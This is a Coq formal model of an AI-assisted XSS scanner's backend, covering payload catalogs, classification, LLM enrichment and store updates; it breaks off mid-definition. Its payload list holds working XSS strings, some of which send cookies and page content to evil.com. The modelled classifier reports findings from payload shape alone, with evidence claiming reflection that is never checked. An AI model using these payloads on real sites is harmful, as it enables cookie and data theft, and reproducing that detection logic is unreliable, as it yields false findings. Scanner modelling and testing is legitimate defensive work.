(** * XSS-Scanner-AI: the scan pipeline of [backend/server.py]

    A shallow embedding of the scanning engine ([perform_xss_scan],
    [test_payload]), the enrichment step ([analyze_vulnerability_with_ai]),
    the orchestration ([background_scan], [create_scan]) and the listing
    endpoint ([get_scan_vulnerabilities]), with the properties the
    specification states about them.

    Python [str] values are modelled as [string]; [str.lower] is modelled on
    the ASCII letters, which is where it can produce or destroy an occurrence
    of the (pure ASCII) markers the classifier looks for. *)

From Stdlib Require Import Ascii String ZArith QArith Qminmax Lia.
From stdpp Require Import base option list strings gmap sorting pretty.

Local Open Scope stdpp_scope.

(** ** Strings *)

Module Str.

(** [c.lower()] for one character. *)
Definition lower_char (c : ascii) : ascii :=
  let n := N_of_ascii c in
  if ((65 <=? n) && (n <=? 90))%N then ascii_of_N (n + 32) else c.

(** [s.lower()] *)
Fixpoint lower (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' => String (lower_char c) (lower s')
  end.

(** [s.startswith(p)] *)
Fixpoint startswith (p s : string) : bool :=
  match p, s with
  | EmptyString, _ => true
  | String a p', String b s' => if Ascii.eqb a b then startswith p' s' else false
  | String _ _, EmptyString => false
  end.

(** [p in s] for two strings: [p] occurs in [s] at some position. *)
Fixpoint str_in (p s : string) : bool :=
  startswith p s ||
  match s with
  | EmptyString => false
  | String _ s' => str_in p s'
  end.

(** [c in s] for a one-character string [c]. *)
Definition char_in (c : ascii) (s : string) : bool := str_in (String c EmptyString) s.

(** [s.split(c)] for a one-character separator: the pieces between the
    occurrences of [c], never an empty list. *)
Fixpoint split (c : ascii) (s : string) : list string :=
  match s with
  | EmptyString => [EmptyString]
  | String a s' =>
      if Ascii.eqb a c then EmptyString :: split c s'
      else match split c s' with
           | [] => [String a EmptyString]
           | hd :: tl => String a hd :: tl
           end
  end.

(** The occurrence relation the specification speaks of: [t] occurs in [s]. *)
Definition contains (s t : string) : Prop :=
  ∃ pre post, s = pre +:+ t +:+ post.

(** [t] occurs in [s] up to the case of the letters. *)
Definition contains_nocase (s t : string) : Prop :=
  ∃ u, lower u = lower t ∧ contains s u.

End Str.

(** ** Data model *)

(** [class ScanRequest(BaseModel)] *)
Record ScanRequest := {
  rq_id : string;
  target_url : string;
  scan_type : string;
  custom_payloads : option (list string);
  include_forms : bool;
  include_urls : bool;
  max_depth : Z;
  rq_created_at : Z;
}.

(** [class Vulnerability(BaseModel)]; [id] and [created_at] come from the
    default factories ([uuid4], the clock). *)
Record Vulnerability := {
  v_id : string;
  v_scan_id : string;
  vulnerability_type : string;
  severity : string;
  endpoint : string;
  parameter : string;
  payload : string;
  evidence : string;
  ai_summary : option string;
  remediation_suggestion : option string;
  false_positive : bool;
  v_created_at : Z;
}.

(** [class ScanResult(BaseModel)].  The two [float] fields are kept as
    rationals: the score is an integer doubled and capped at ten, which
    doubles represent exactly at every list length a run can reach; of the
    duration only the presence matters below.  Timestamps are microseconds. *)
Record ScanResult := {
  sr_id : string;
  sr_scan_id : string;
  status : string;
  total_vulnerabilities : Z;
  critical_count : Z;
  high_count : Z;
  medium_count : Z;
  low_count : Z;
  ai_risk_score : option Q;
  ai_executive_summary : option string;
  scan_duration : option Q;
  started_at : option Z;
  completed_at : option Z;
}.

(** ** The classifier *)

(** The patterns of the payload-shape heuristic. *)
Definition markers : list string := ["<script"; "onerror="; "onload="; "javascript:"].

(** [any(pattern in payload.lower() for pattern in [...])] *)
Definition is_vulnerable (payload : string) : bool :=
  existsb (λ pattern, Str.str_in pattern (Str.lower payload)) markers.

(** The severity chain of [test_payload]. *)
Definition severity_of (payload : string) : string :=
  if Str.str_in "document.cookie" payload || Str.str_in "fetch(" payload then "critical"
  else if Str.str_in "alert(" payload then "medium"
  else "high".

(** [test_payload]; [fresh_id] and [now] are what the default factories of
    [Vulnerability] produce at the call.  Nothing in the body can raise on
    string arguments, so the [try] is transparent. *)
Definition test_payload (fresh_id : string) (now : Z)
    (scan_id endpoint parameter payload vuln_type : string) : option Vulnerability :=
  if is_vulnerable payload then
    Some {| v_id := fresh_id;
            v_scan_id := scan_id;
            vulnerability_type := "XSS_" +:+ vuln_type;
            severity := severity_of payload;
            endpoint := endpoint;
            parameter := parameter;
            payload := payload;
            evidence := "Payload '" +:+ payload +:+ "' was reflected in parameter '"
                        +:+ parameter +:+ "' at endpoint '" +:+ endpoint +:+ "'";
            ai_summary := None;
            remediation_suggestion := None;
            false_positive := false;
            v_created_at := now |}
  else None.

(** ** Payload catalogs and selection *)

(** [XSS_PAYLOADS] *)
Definition XSS_PAYLOADS : gmap string (list string) :=
  list_to_map
    [ ("basic",
        [ "<script>alert('XSS')</script>";
          "<img src=x onerror=alert('XSS')>";
          "javascript:alert('XSS')";
          "<svg onload=alert('XSS')>";
          "<iframe src=javascript:alert('XSS')></iframe>" ]);
      ("advanced",
        [ "<script>document.location='http://evil.com/steal?cookie='+document.cookie</script>";
          "<img src=x onerror=fetch('http://evil.com/steal?data='+document.body.innerHTML)>";
          "<script>eval(String.fromCharCode(97,108,101,114,116,40,39,88,83,83,39,41))</script>";
          "<svg/onload=location='javascript:alert`XSS`'>";
          "<details open ontoggle=alert('XSS')>" ]);
      ("evasion",
        [ "<ScRiPt>alert('XSS')</ScRiPt>";
          "<script>ale%72t('XSS')</script>";
          "<script>&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;</script>";
          "<script src=data:,alert('XSS')></script>";
          "<svg><script>alert('XSS')</script></svg>" ]) ].

(** The payload selection of [perform_xss_scan]: the [if]/[elif] chain on
    [scan_type]; [payloads] stays [[]] when no branch is taken, and an absent
    or empty [custom_payloads] is falsy. *)
Definition select_payloads (r : ScanRequest) : list string :=
  if String.eqb (scan_type r) "quick" then
    take 3 (XSS_PAYLOADS !!! "basic")
  else if String.eqb (scan_type r) "comprehensive" then
    (XSS_PAYLOADS !!! "basic") ++ (XSS_PAYLOADS !!! "advanced") ++ (XSS_PAYLOADS !!! "evasion")
  else if String.eqb (scan_type r) "custom" then
    match custom_payloads r with
    | Some (p :: ps) => p :: ps
    | Some [] | None => []
    end
  else [].

(** ** The environment: network, markup parser, oracle, store, clock *)

(** What [session.get(url)] followed by [response.text()] yields.  The client
    is used with its defaults, so a response of any status code is a
    response; only a transport error raises. *)
Inductive Fetch :=
  | ConnectionError
  | Response (status_code : Z) (text : option string).

(** The attributes the scanner reads from an [input], [textarea] or [select]
    element, and from a [form] element. *)
Record Field := { f_name : option string; f_type : option string }.
Record Form := { action : option string; fields : list Field }.

Inductive Persona := Gpt4 | Claude.

Inductive Exn :=
  | UrlError | NetworkError | DecodeError | ParseError
  | StoreError | OracleError | IndexError | KeyError (key : string).

(** The behaviour of everything outside the program.  Operations that can
    answer differently from one call to the next are indexed by the number of
    external operations made so far. *)
Record Env := {
  urlparse_base : string → option string;
    (* scheme://netloc of [urlparse(url)]; [None]: it raises *)
  http_get : string → Fetch;
  find_forms : string → option (list Form);
    (* the forms of [BeautifulSoup(content, 'html.parser')], each with its
       input, textarea and select descendants; [None]: it raises *)
  uuid4 : nat → string;
  clock : nat → Z;
  store_ok : nat → bool;
    (* whether the store accepts the operation made at this point *)
  llm : nat → Persona → string → string → option string;
    (* the answer to a prompt in a session; [None]: the call raises *)
}.

(** ** The world: store collections and the observable trace *)

Inductive Event :=
  | Tested (endpoint parameter payload vuln_type : string)
      (* one call of [test_payload] *)
  | Asked (p : Persona) (session_id prompt : string)
      (* one message sent to the oracle *)
  | Persisted (scan_id status : string).
      (* a write of [status] to the scan's result record that the store took *)

Record World := {
  db_scans : list ScanRequest;
  db_scan_results : list ScanResult;
  db_vulnerabilities : list Vulnerability;
  ticks : nat;
  events : list Event;
}.

Definition initial_world : World :=
  {| db_scans := []; db_scan_results := []; db_vulnerabilities := [];
     ticks := 0; events := [] |}.

(** ** A state-and-exception monad for the coroutines *)

Inductive Result (A : Type) :=
  | Ok (a : A)
  | Raise (e : Exn).
Arguments Ok {A} a.
Arguments Raise {A} e.

Definition M (A : Type) : Type := World → Result A * World.

Definition ret {A} (a : A) : M A := λ w, (Ok a, w).

Definition raise {A} (e : Exn) : M A := λ w, (Raise e, w).

Definition bind {A B} (m : M A) (f : A → M B) : M B :=
  λ w, match m w with
       | (Ok a, w') => f a w'
       | (Raise e, w') => (Raise e, w')
       end.

(** [try: m  except Exception as e: h e] *)
Definition try_except {A} (m : M A) (h : Exn → M A) : M A :=
  λ w, match m w with
       | (Ok a, w') => (Ok a, w')
       | (Raise e, w') => h e w'
       end.

Notation "x <- m ;; k" := (bind m (λ x, k))
  (at level 100, m at next level, right associativity, only parsing).
Notation "m ;; k" := (bind m (λ _, k))
  (at level 100, right associativity, only parsing).

(** [for x in l: s = body s x], with the loop-carried variables in [s]. *)
Fixpoint for_each {A S} (l : list A) (s : S) (body : S → A → M S) : M S :=
  match l with
  | [] => ret s
  | x :: l' => s' <- body s x ;; for_each l' s' body
  end.

(** A step that is pure but may raise. *)
Definition lift {A} (r : Result A) : M A := λ w, (r, w).

(** ** World updates *)

Definition tick (w : World) : World :=
  {| db_scans := db_scans w; db_scan_results := db_scan_results w;
     db_vulnerabilities := db_vulnerabilities w;
     ticks := S (ticks w); events := events w |}.

Definition log (e : Event) (w : World) : World :=
  {| db_scans := db_scans w; db_scan_results := db_scan_results w;
     db_vulnerabilities := db_vulnerabilities w;
     ticks := ticks w; events := events w ++ [e] |}.

Definition set_scans (l : list ScanRequest) (w : World) : World :=
  {| db_scans := l; db_scan_results := db_scan_results w;
     db_vulnerabilities := db_vulnerabilities w;
     ticks := ticks w; events := events w |}.

Definition set_scan_results (l : list ScanResult) (w : World) : World :=
  {| db_scans := db_scans w; db_scan_results := l;
     db_vulnerabilities := db_vulnerabilities w;
     ticks := ticks w; events := events w |}.

Definition set_vulnerabilities (l : list Vulnerability) (w : World) : World :=
  {| db_scans := db_scans w; db_scan_results := db_scan_results w;
     db_vulnerabilities := l;
     ticks := ticks w; events := events w |}.

(** ** Store queries, as the document store answers them *)

(** The first document of [scan_results] with this [scan_id]. *)
Fixpoint find_one (sid : string) (l : list ScanResult) : option ScanResult :=
  match l with
  | [] => None
  | d :: l' => if String.eqb (sr_scan_id d) sid then Some d else find_one sid l'
  end.

(** [update_one({"scan_id": sid}, {"$set": ...})]: the first matching document
    is patched, the others are left alone; no match changes nothing. *)
Fixpoint update_first (sid : string) (patch : ScanResult → ScanResult)
    (l : list ScanResult) : list ScanResult :=
  match l with
  | [] => []
  | d :: l' =>
      if String.eqb (sr_scan_id d) sid then patch d :: l'
      else d :: update_first sid patch l'
  end.

(** Ascending order of the [severity] strings, by character code. *)
Definition severity_le (a b : Vulnerability) : Prop :=
  String.le (severity a) (severity b).

#[global] Instance severity_le_dec : RelDecision severity_le.
Proof. intros a b. unfold severity_le. apply _. Defined.

(** [find({"scan_id": sid}).sort("severity", 1).to_list(1000)] *)
Definition find_sorted (sid : string) (l : list Vulnerability) : list Vulnerability :=
  take 1000
    (merge_sort severity_le
       (filter (λ v, v_scan_id v = sid) l)).

(** ** Patches written by the orchestration *)

Definition set_running (t : Z) (d : ScanResult) : ScanResult :=
  {| sr_id := sr_id d; sr_scan_id := sr_scan_id d;
     status := "running";
     total_vulnerabilities := total_vulnerabilities d;
     critical_count := critical_count d; high_count := high_count d;
     medium_count := medium_count d; low_count := low_count d;
     ai_risk_score := ai_risk_score d;
     ai_executive_summary := ai_executive_summary d;
     scan_duration := scan_duration d;
     started_at := Some t;
     completed_at := completed_at d |}.

Definition set_failed (t : Z) (d : ScanResult) : ScanResult :=
  {| sr_id := sr_id d; sr_scan_id := sr_scan_id d;
     status := "failed";
     total_vulnerabilities := total_vulnerabilities d;
     critical_count := critical_count d; high_count := high_count d;
     medium_count := medium_count d; low_count := low_count d;
     ai_risk_score := ai_risk_score d;
     ai_executive_summary := ai_executive_summary d;
     scan_duration := scan_duration d;
     started_at := started_at d;
     completed_at := Some t |}.

Definition set_completed (total : Z) (counts : gmap string Z) (summary : string)
    (duration : Q) (end_time : Z) (d : ScanResult) : ScanResult :=
  {| sr_id := sr_id d; sr_scan_id := sr_scan_id d;
     status := "completed";
     total_vulnerabilities := total;
     critical_count := counts !!! "critical";
     high_count := counts !!! "high";
     medium_count := counts !!! "medium";
     low_count := counts !!! "low";
     ai_risk_score := Some (Qmin 10 (inject_Z total * 2));
     ai_executive_summary := Some summary;
     scan_duration := Some duration;
     started_at := started_at d;
     completed_at := Some end_time |}.

(** [ScanResult(scan_id=..., status="pending")] *)
Definition pending_result (fresh_id sid : string) : ScanResult :=
  {| sr_id := fresh_id; sr_scan_id := sid; status := "pending";
     total_vulnerabilities := 0; critical_count := 0; high_count := 0;
     medium_count := 0; low_count := 0;
     ai_risk_score := None; ai_executive_summary := None;
     scan_duration := None; started_at := None; completed_at := None |}.

(** ** Enrichment texts *)

Definition summary_fallback : string := "AI analysis failed - manual review required".
Definition remediation_fallback : string :=
  "Apply standard XSS prevention techniques: input validation, output encoding, CSP headers".
Definition no_findings_summary : string :=
  "No XSS vulnerabilities detected in the target application.".

Definition with_summary (t : string) (v : Vulnerability) : Vulnerability :=
  {| v_id := v_id v; v_scan_id := v_scan_id v;
     vulnerability_type := vulnerability_type v; severity := severity v;
     endpoint := endpoint v; parameter := parameter v; payload := payload v;
     evidence := evidence v;
     ai_summary := Some t;
     remediation_suggestion := remediation_suggestion v;
     false_positive := false_positive v; v_created_at := v_created_at v |}.

Definition with_remediation (t : string) (v : Vulnerability) : Vulnerability :=
  {| v_id := v_id v; v_scan_id := v_scan_id v;
     vulnerability_type := vulnerability_type v; severity := severity v;
     endpoint := endpoint v; parameter := parameter v; payload := payload v;
     evidence := evidence v;
     ai_summary := ai_summary v;
     remediation_suggestion := Some t;
     false_positive := false_positive v; v_created_at := v_created_at v |}.

(** A triple-quoted f-string: a newline, the lines each behind the
    indentation of the source, and the indentation of the closing quotes. *)
Definition nl : string := String "010" EmptyString.

Definition block (indent : string) (lines : list string) : string :=
  nl +:+ fold_right (λ l acc, indent +:+ l +:+ nl +:+ acc) indent lines.

Definition analysis_prompt (v : Vulnerability) : string :=
  block "        "
    [ "Analyze this XSS vulnerability:"; "";
      "Type: " +:+ vulnerability_type v;
      "Severity: " +:+ severity v;
      "Endpoint: " +:+ endpoint v;
      "Parameter: " +:+ parameter v;
      "Payload: " +:+ payload v;
      "Evidence: " +:+ evidence v; "";
      "Provide a technical summary (2-3 sentences) explaining the vulnerability and its potential impact." ].

Definition remediation_prompt (v : Vulnerability) : string :=
  block "        "
    [ "Provide specific remediation guidance for this XSS vulnerability:"; "";
      "Type: " +:+ vulnerability_type v;
      "Parameter: " +:+ parameter v;
      "Payload: " +:+ payload v; "";
      "Provide concrete code examples and security best practices to fix this issue.";
      "Focus on input validation, output encoding, and CSP implementation." ].

Definition summary_prompt (r : ScanRequest) (total : Z) (counts : gmap string Z) : string :=
  block "            "
    [ "Generate an executive summary for this XSS security scan:"; "";
      "Target: " +:+ target_url r;
      "Total Vulnerabilities: " +:+ pretty total;
      "Critical: " +:+ pretty (counts !!! "critical" : Z)
        +:+ ", High: " +:+ pretty (counts !!! "high" : Z)
        +:+ ", Medium: " +:+ pretty (counts !!! "medium" : Z)
        +:+ ", Low: " +:+ pretty (counts !!! "low" : Z); "";
      "Provide a 2-3 sentence executive summary focusing on business risk and priority actions." ].


(** ** The severity dictionary *)

(** [severity_counts = {"critical": 0, "high": 0, "medium": 0, "low": 0}] *)
Definition initial_counts : gmap string Z :=
  list_to_map [("critical", 0%Z); ("high", 0%Z); ("medium", 0%Z); ("low", 0%Z)].

(** [severity_counts[sev] += 1]: a label that is not a key raises. *)
Definition bump (counts : gmap string Z) (sev : string) : Result (gmap string Z) :=
  match counts !! sev with
  | Some n => Ok (<[sev := (n + 1)%Z]> counts)
  | None => Raise (KeyError sev)
  end.

(** The input types whose fields are tested. *)
Definition text_types : list string := ["text"; "search"; "url"; "email"; "password"].

(** ** The program *)

Section Program.

Variable env : Env.

(** *** External operations *)

(** [datetime.now(timezone.utc)] *)
Definition now : M Z := λ w, (Ok (clock env (ticks w)), tick w).

(** [str(uuid.uuid4())] *)
Definition fresh_uuid : M string := λ w, (Ok (uuid4 env (ticks w)), tick w).

(** A chat of the given persona and session is created and one message is
    sent to it; building the chat or sending the message may raise. *)
Definition ask (p : Persona) (session_id prompt : string) : M string :=
  λ w, let w' := tick (log (Asked p session_id prompt) w) in
       match llm env (ticks w) p session_id prompt with
       | Some answer => (Ok answer, w')
       | None => (Raise OracleError, w')
       end.

(** [db.scans.insert_one] *)
Definition insert_scan (r : ScanRequest) : M unit :=
  λ w, if store_ok env (ticks w)
       then (Ok (), tick (set_scans (db_scans w ++ [r]) w))
       else (Raise StoreError, tick w).

(** [db.scan_results.insert_one] *)
Definition insert_scan_result (d : ScanResult) : M unit :=
  λ w, if store_ok env (ticks w)
       then (Ok (), tick (log (Persisted (sr_scan_id d) (status d))
                            (set_scan_results (db_scan_results w ++ [d]) w)))
       else (Raise StoreError, tick w).

(** [db.vulnerabilities.insert_one] *)
Definition insert_vulnerability (v : Vulnerability) : M unit :=
  λ w, if store_ok env (ticks w)
       then (Ok (), tick (set_vulnerabilities (db_vulnerabilities w ++ [v]) w))
       else (Raise StoreError, tick w).

(** [db.scan_results.update_one({"scan_id": sid}, {"$set": ...})] *)
Definition update_scan_result (sid : string) (patch : ScanResult → ScanResult) : M unit :=
  λ w, if store_ok env (ticks w)
       then match find_one sid (db_scan_results w) with
            | Some d =>
                (Ok (), tick (log (Persisted sid (status (patch d)))
                                (set_scan_results
                                   (update_first sid patch (db_scan_results w)) w)))
            | None => (Ok (), tick w)
            end
       else (Raise StoreError, tick w).

(** One call of [test_payload] from the scan loops: the default factories
    are consulted, the call is recorded. *)
Definition call_test_payload (scan_id endpoint parameter payload vuln_type : string)
    : M (option Vulnerability) :=
  λ w, (Ok (test_payload (uuid4 env (ticks w)) (clock env (ticks w))
              scan_id endpoint parameter payload vuln_type),
        tick (log (Tested endpoint parameter payload vuln_type) w)).

(** [session.get(url)] and [response.text()] *)
Definition fetch (url : string) : M string :=
  match http_get env url with
  | ConnectionError => raise NetworkError
  | Response _ None => raise DecodeError
  | Response _ (Some content) => ret content
  end.

(** *** [perform_xss_scan] *)

(** The innermost loop: [for payload in ...: test; append if not None]. *)
Definition test_all (scan_id endpoint parameter vuln_type : string)
    (payloads : list string) (vulnerabilities : list Vulnerability)
    : M (list Vulnerability) :=
  for_each payloads vulnerabilities (λ vulnerabilities payload,
    vulnerability <- call_test_payload scan_id endpoint parameter payload vuln_type ;;
    ret (match vulnerability with
         | Some v => vulnerabilities ++ [v]
         | None => vulnerabilities
         end)).

Definition form_action_of (base_url : string) (form : Form) : string :=
  let form_action := default "" (action form) in
  if Str.startswith "http" form_action then form_action
  else base_url +:+ form_action.

(** [for form in forms: ... for input_field in inputs: ...] *)
Definition test_forms (scan_id base_url : string) (forms : list Form)
    (payloads : list string) (vulnerabilities : list Vulnerability)
    : M (list Vulnerability) :=
  for_each forms vulnerabilities (λ vulnerabilities form,
    let form_action := form_action_of base_url form in
    for_each (fields form) vulnerabilities (λ vulnerabilities input_field,
      let input_name := default "unknown" (f_name input_field) in
      let input_type := default "text" (f_type input_field) in
      if bool_decide (input_type ∈ text_types)
      then test_all scan_id form_action input_name "form_input" payloads vulnerabilities
      else ret vulnerabilities)).

(** [for param in url_params: if '=' in param: ...] *)
Definition test_url_params (scan_id url : string) (url_params : list string)
    (payloads : list string) (vulnerabilities : list Vulnerability)
    : M (list Vulnerability) :=
  for_each url_params vulnerabilities (λ vulnerabilities param,
    if Str.char_in "=" param then
      match Str.split "=" param with
      | param_name :: _ =>
          test_all scan_id url param_name "url_parameter" (take 5 payloads) vulnerabilities
      | [] => raise IndexError
      end
    else ret vulnerabilities).

(** Every step that may raise comes before the first append, so the list
    the handler falls through with is still empty. *)
Definition perform_xss_scan (scan_request : ScanRequest) : M (list Vulnerability) :=
  try_except
    (base_url <- lift (match urlparse_base env (target_url scan_request) with
                       | Some b => Ok b
                       | None => Raise UrlError
                       end) ;;
     content <- fetch (target_url scan_request) ;;
     soup <- lift (match find_forms env content with
                   | Some fs => Ok fs
                   | None => Raise ParseError
                   end) ;;
     let forms := if include_forms scan_request then soup else [] in
     let payloads := select_payloads scan_request in
     vulnerabilities <- test_forms (rq_id scan_request) base_url forms payloads [] ;;
     if include_urls scan_request && Str.char_in "?" (target_url scan_request) then
       match Str.split "?" (target_url scan_request) !! 1 with
       | Some query =>
           test_url_params (rq_id scan_request) (target_url scan_request)
             (Str.split "&" query) payloads vulnerabilities
       | None => raise IndexError
       end
     else ret vulnerabilities)
    (λ _, ret []).

(** *** [analyze_vulnerability_with_ai] *)

(** The handler of the single [try] around both calls assigns both fields
    of the object, whatever the body had assigned before it raised. *)
Definition apply_fallbacks (v : Vulnerability) : Vulnerability :=
  with_remediation remediation_fallback (with_summary summary_fallback v).

Definition analyze_vulnerability_with_ai (vulnerability : Vulnerability) : M Vulnerability :=
  λ w,
    match ask Gpt4 ("vuln_analysis_" +:+ v_id vulnerability)
            (analysis_prompt vulnerability) w with
    | (Ok analysis_response, w1) =>
        let vulnerability1 := with_summary analysis_response vulnerability in
        match ask Claude ("remediation_" +:+ v_id vulnerability1)
                (remediation_prompt vulnerability1) w1 with
        | (Ok remediation_response, w2) =>
            (Ok (with_remediation remediation_response vulnerability1), w2)
        | (Raise _, w2) => (Ok (apply_fallbacks vulnerability1), w2)
        end
    | (Raise _, w1) => (Ok (apply_fallbacks vulnerability), w1)
    end.

(** *** [background_scan] *)

Definition background_scan (scan_request : ScanRequest) : M unit :=
  try_except
    (started <- now ;;
     update_scan_result (rq_id scan_request) (set_running started) ;;
     start_time <- now ;;
     vulnerabilities <- perform_xss_scan scan_request ;;
     analyzed_vulnerabilities <-
       for_each vulnerabilities [] (λ analyzed_vulnerabilities vuln,
         analyzed_vuln <- analyze_vulnerability_with_ai vuln ;;
         insert_vulnerability analyzed_vuln ;;
         ret (analyzed_vulnerabilities ++ [analyzed_vuln])) ;;
     end_time <- now ;;
     let duration := Qmake (end_time - start_time) 1000000 in
     severity_counts <-
       for_each analyzed_vulnerabilities initial_counts (λ severity_counts vuln,
         lift (bump severity_counts (severity vuln))) ;;
     let total := Z.of_nat (length analyzed_vulnerabilities) in
     executive_summary <-
       match analyzed_vulnerabilities with
       | _ :: _ =>
           ask Claude ("executive_summary_" +:+ rq_id scan_request)
             (summary_prompt scan_request total severity_counts)
       | [] => ret no_findings_summary
       end ;;
     update_scan_result (rq_id scan_request)
       (set_completed total severity_counts executive_summary duration end_time))
    (λ _,
     failed_at <- now ;;
     update_scan_result (rq_id scan_request) (set_failed failed_at)).

(** *** The endpoints *)

(** [create_scan]: the request and the initial result are stored, the
    background task is queued. *)
Definition create_scan (scan_request : ScanRequest) : M ScanRequest :=
  insert_scan scan_request ;;
  result_id <- fresh_uuid ;;
  insert_scan_result (pending_result result_id (rq_id scan_request)) ;;
  ret scan_request.

(** One scan from submission to the end of its background task, which runs
    once the endpoint has returned without raising. *)
Definition scan_lifecycle (scan_request : ScanRequest) : M unit :=
  create_scan scan_request ;;
  background_scan scan_request.

(** [get_scan_vulnerabilities] *)
Definition get_scan_vulnerabilities (scan_id : string) : M (list Vulnerability) :=
  λ w, if store_ok env (ticks w)
       then (Ok (find_sorted scan_id (db_vulnerabilities w)), tick w)
       else (Raise StoreError, tick w).

End Program.

(** ** Notions the properties are stated with *)

(** The letters of the alphabet, each upper-case one with its lower-case
    form. *)
Definition case_pairs : list (ascii * ascii) :=
  zip (list_ascii_of_string "ABCDEFGHIJKLMNOPQRSTUVWXYZ")
      (list_ascii_of_string "abcdefghijklmnopqrstuvwxyz").

(** Two characters are the same up to case: equal, or the two forms of one
    letter. *)
Definition same_letter (a b : ascii) : Prop :=
  a = b ∨ (a, b) ∈ case_pairs ∨ (b, a) ∈ case_pairs.

(** Two strings are the same up to case, character by character. *)
Fixpoint same_text (u t : string) : Prop :=
  match u, t with
  | EmptyString, EmptyString => True
  | String a u', String b t' => same_letter a b ∧ same_text u' t'
  | _, _ => False
  end.

(** [s] contains [t] case-insensitively: some stretch of [s] is [t] up to
    the case of its letters. *)
Definition contains_ignoring_case (s t : string) : Prop :=
  ∃ u, same_text u t ∧ Str.contains s u.

(** An injectable surface found by the crawl, with the endpoint its tests
    are sent to. *)
Inductive Surface :=
  | FormField (endpoint name : string)
  | UrlParam (endpoint name : string).

(** A form field is tested when its type, [text] by default, is text-like. *)
Definition eligible (f : Field) : bool :=
  bool_decide (default "text" (f_type f) ∈ text_types).

Definition form_surfaces (base_url : string) (forms : list Form) : list Surface :=
  flat_map (λ form,
    flat_map (λ f,
      if eligible f
      then [FormField (form_action_of base_url form) (default "unknown" (f_name f))]
      else [])
      (fields form))
    forms.

Definition url_surfaces (url : string) : list Surface :=
  flat_map (λ param,
    if Str.char_in "=" param
    then [UrlParam url (default "" (head (Str.split "=" param)))]
    else [])
    (Str.split "&" (default "" (Str.split "?" url !! 1))).

(** The surfaces of a scan, in the order they are visited: none when the
    fetch or the parse raises. *)
Definition surfaces (env : Env) (r : ScanRequest) : list Surface :=
  match urlparse_base env (target_url r), http_get env (target_url r) with
  | Some base_url, Response _ (Some content) =>
      match find_forms env content with
      | Some fs =>
          form_surfaces base_url (if include_forms r then fs else [])
          ++ (if include_urls r && Str.char_in "?" (target_url r)
              then url_surfaces (target_url r) else [])
      | None => []
      end
  | _, _ => []
  end.

(** The tests the specification assigns to a surface: the whole selected
    sequence for a form field, its first five entries for a URL parameter. *)
Definition tests_of (payloads : list string) (s : Surface) : list Event :=
  match s with
  | FormField ep name => map (λ p, Tested ep name p "form_input") payloads
  | UrlParam ep name => map (λ p, Tested ep name p "url_parameter") (take 5 payloads)
  end.

(** The statuses written for a scan, oldest first. *)
Definition status_history (sid : string) (evs : list Event) : list string :=
  omap (λ e, match e with
             | Persisted sid' st => if String.eqb sid' sid then Some st else None
             | _ => None
             end) evs.

(** What a run of [test_payload] leaves in a finding. *)
Definition from_test_payload (v : Vulnerability) : Prop :=
  is_vulnerable (payload v) = true ∧ severity v = severity_of (payload v).

(** The store never refuses an operation. *)
Definition reliable (env : Env) : Prop := ∀ n, store_ok env n = true.

(** The fetch of the target raises: transport error, undecodable body, or a
    body the parser gives up on. *)
Definition fetch_raises (env : Env) (url : string) : Prop :=
  match http_get env url with
  | ConnectionError => True
  | Response _ None => True
  | Response _ (Some content) => find_forms env content = None
  end.

(** The fetch failures as the specification lists them, a response outside
    the 2xx range included. *)
Definition fetch_fails_as_specified (env : Env) (url : string) : Prop :=
  match http_get env url with
  | ConnectionError => True
  | Response code None => True
  | Response code (Some content) =>
      ¬ (200 ≤ code < 300)%Z ∨ find_forms env content = None
  end.

(** The worlds that runs of the endpoints and of the background task lead to
    from the empty store. *)
Inductive reachable (env : Env) : World → Prop :=
  | reach_initial : reachable env initial_world
  | reach_create r w :
      reachable env w → reachable env (create_scan env r w).2
  | reach_background r w :
      reachable env w → reachable env (background_scan env r w).2
  | reach_list sid w :
      reachable env w → reachable env (get_scan_vulnerabilities env sid w).2.

(** The number of findings with a given severity label. *)
Definition count_sev (k : string) (l : list Vulnerability) : Z :=
  Z.of_nat (length (filter (λ v, severity v = k) l)).

(** The dictionary [severity_counts] after the findings [l] were tallied. *)
Definition tallied (counts : gmap string Z) (l : list Vulnerability) : Prop :=
  Forall (λ v, severity v ∈ ["critical"; "high"; "medium"; "low"]) l
  ∧ ∀ k, counts !! k =
         if bool_decide (k ∈ ["critical"; "high"; "medium"; "low"])
         then Some (count_sev k l) else None.

(** Every result record of the store satisfies [P]. *)
Definition store_inv (P : ScanResult → Prop) (w : World) : Prop :=
  Forall P (db_scan_results w).


(** ** Sample environments

    A target whose pages, unless empty, hold one search form, with the fetch
    outcome, the store's answers and the oracle's answers left open. *)
Definition sample_env (page : Fetch) (store : nat → bool)
    (oracle : nat → Persona → option string) : Env :=
  {| urlparse_base := λ _, Some "https://x.test";
     http_get := λ _, page;
     find_forms := λ content,
       if String.eqb content "" then Some []
       else Some [ {| action := Some "/search";
                      fields := [ {| f_name := Some "q"; f_type := None |};
                                  {| f_name := Some "go"; f_type := Some "submit" |} ] |} ];
     uuid4 := λ n, "id-" +:+ pretty n;
     clock := λ n, (1000 * Z.of_nat n)%Z;
     store_ok := store;
     llm := λ n p _ _, oracle n p |}.

Definition sample_request (url kind : string) : ScanRequest :=
  {| rq_id := "scan-1"; target_url := url; scan_type := kind;
     custom_payloads := None; include_forms := true; include_urls := true;
     max_depth := 3; rq_created_at := 0 |}.

(** Everything answers. *)
Definition demo_env : Env :=
  sample_env (Response 200 (Some "<form action=/search><input name=q></form>"))
    (λ _, true) (λ _ p, Some (match p with Gpt4 => "analysis" | Claude => "advice" end)).

Definition demo_request : ScanRequest := sample_request "https://x.test/p?name=foo" "quick".

Definition demo_world : World :=
  (background_scan demo_env demo_request
     (create_scan demo_env demo_request initial_world).2).2.

(** The record a lookup falls back to in the examples. *)
Definition no_result : ScanResult := pending_result "" "".

(** A finding as [test_payload] returns it, for the examples. *)
Definition sample_finding : Vulnerability :=
  default
    {| v_id := ""; v_scan_id := ""; vulnerability_type := ""; severity := "";
       endpoint := ""; parameter := ""; payload := ""; evidence := "";
       ai_summary := None; remediation_suggestion := None;
       false_positive := false; v_created_at := 0 |}
    (test_payload "v-1" 0 "scan-1" "https://x.test/search" "q"
       "<script>alert('XSS')</script>" "form_input").

(** The technical analysis answers, the remediation call raises. *)
Definition remediation_down_env : Env :=
  sample_env (Response 200 (Some "")) (λ _, true)
    (λ _ p, match p with Gpt4 => Some "analysis" | Claude => None end).

(** The value a run returns, if it returns. *)
Definition returned {A} (x : Result A * World) : option A :=
